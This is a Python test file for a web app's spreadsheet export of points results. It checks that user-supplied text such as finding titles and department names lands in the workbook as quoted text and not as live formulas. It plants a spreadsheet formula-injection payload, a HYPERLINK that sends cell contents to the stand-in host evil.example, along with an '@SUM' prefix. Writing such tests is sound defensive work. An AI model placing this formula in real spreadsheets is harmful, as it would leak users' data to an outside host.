"""The points export writes user text (finding titles, people, rules) as text and never fails on
stored text (issue #21, items 1 and 2)."""

import io

from openpyxl import load_workbook

from tests.results.points.conftest import Q4, TODAY, local
from webapp.extensions import db
from webapp.results.points.operations import post_points

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_user_text_in_the_points_export_is_text(client, auth, ledger, finding_at):
    ledger["depts"][0].name = "@SUM(1+1)\x0b"
    ledger["rules"]["DED-HIGH"].name = "重大\x08扣分"
    finding = finding_at(local(2026, 10, 6), "high")
    finding.title = FORMULA
    db.session.commit()
    post_points(Q4, today=TODAY)
    db.session.commit()
    auth.login("manager")
    r = client.get("/results/points/export.xlsx?period=2026-Q4")
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.data))
    entries = wb.worksheets[1]
    row = next(r for r in entries.iter_rows(min_row=2) if r[6].value == FORMULA)
    assert (row[6].data_type, row[6].quotePrefix) == ("s", True)
    assert row[4].value == "DED-HIGH 重大扣分"
    depts = [c for r in wb.worksheets[0].iter_rows() for c in r if c.value == "@SUM(1+1)"]
    assert depts and all((c.data_type, c.quotePrefix) == ("s", True) for c in depts)
